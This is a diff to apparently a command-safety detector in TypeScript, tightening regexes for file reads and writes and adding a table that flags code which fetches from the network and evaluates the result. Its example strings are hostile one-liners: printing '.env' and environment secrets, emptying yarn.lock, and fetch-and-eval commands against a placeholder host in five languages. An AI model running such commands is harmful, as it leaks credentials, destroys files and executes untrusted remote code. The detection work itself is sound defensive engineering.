@@ -12,7 +12,7 @@ export const CODE_APIS: Record<string, { read: RegExp; write: RegExp; envDump: R
   },
   js: {
     read: /readFileSync|readFile\s*\(|createReadStream|Bun\.file|Deno\.readTextFile|Deno\.readFile|fs\.cp|copyFile/,
-    write: /\b(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream|Deno\.writeTextFile|Deno\.writeFile|Bun\.write)\s*\(/g,
+    write: /\b(?:writeFile|appendFile|createWriteStream|Deno\.writeTextFile|Deno\.writeFile|Bun\.write)(?:Sync)?\(/g,
     envDump: /\bprocess\.env\b(?!\s*(?:\.|\[|\?\.))|\bDeno\.env\.toObject\s*\(|\bBun\.env\b(?!\s*(?:\.|\[))/,
     examples: ['node -e "console.log(require(\'fs\').readFileSync(\'.env\',\'utf8\'))"', 'node -p process.env', 'node -e "require(\'fs\').writeFileSync(\'yarn.lock\', \'\')"'],
   },
@@ -23,7 +23,7 @@ export const CODE_APIS: Record<string, { read: RegExp; write: RegExp; envDump: R
     examples: ['ruby -e "puts File.read(\'.env\')"', 'ruby -e "p ENV"'],
   },
   perl: {
-    read: /\bopen\s*\(|\bslurp\b|<\s*(?:\$?\w+\s*|\$\s*)?>|read_file/,
+    read: /\bopen\s*\(|\bslurp\b|<\$?\w*>|read_file/,
     write: /\bopen\s*\(\s*\w+\s*,\s*(?=['"]>)|write_file\s*\(/g,
     envDump: /%ENV\b|\\%ENV|\bkeys\s+%ENV\b.*\$ENV/,
     examples: ['perl -e "print %ENV"', 'perl -e \'open(F, ".env"); print <F>\''],
@@ -36,6 +36,15 @@ export const CODE_APIS: Record<string, { read: RegExp; write: RegExp; envDump: R
   },
   lua: { read: /io\.open|io\.lines|io\.read/, write: /io\.open\s*\(\s*(?=(['"])[^'"]*\1\s*,\s*['"][wa])/g, envDump: /(?!)/, examples: ['lua -e "print(io.open(\'.env\'):read(\'a\'))"'] },
   r: { read: /readLines|read\.csv|readRDS|scan\s*\(|readRenviron/, write: /writeLines\s*\(|write\.csv\s*\(/g, envDump: /Sys\.getenv\s*\(\s*\)/, examples: ['Rscript -e "readLines(\'.env\')"'] },
+};
+
+/** Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the network; both together run downloaded code. */
+export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; example: string }> = {
+  php: { evaluates: /\beval\s*\(|\bassert\s*\(|\bcreate_function\s*\(/, fetches: /file_get_contents\s*\(\s*['"]?(?:https?|ftp):|curl_exec|fsockopen|\bfopen\s*\(\s*['"](?:https?|ftp):/, example: `php -r 'eval(file_get_contents("https://x.example.com/p"));'` },
+  python: { evaluates: /\b(?:exec|eval)\s*\(|compile\s*\(/, fetches: /urlopen|requests\.(?:get|post)|httpx\.|urllib\.request|http\.client/, example: `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example.com/p').read())"` },
+  js: { evaluates: /\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/, fetches: /\bfetch\s*\(|https?\.get\s*\(|axios|require\s*\(\s*['"]https?['"]\s*\)|import\s*\(\s*['"]https?:/, example: `node -e "fetch('https://x.example.com/p').then(r => r.text()).then(eval)"` },
+  ruby: { evaluates: /\beval\b|instance_eval|class_eval|\bsend\s*\(/, fetches: /open-uri|URI\.open|Net::HTTP|\bopen\s*\(\s*['"]https?:/, example: `ruby -e 'require "open-uri"; eval(URI.open("https://x.example.com/p").read)'` },
+  perl: { evaluates: /\beval\b/, fetches: /LWP|HTTP::Tiny|get\s*\(\s*['"]https?:/, example: `perl -MLWP::Simple -e 'eval get("https://x.example.com/p")'` },
 };
 
 const ARGS = { rest: 'arg' as const };
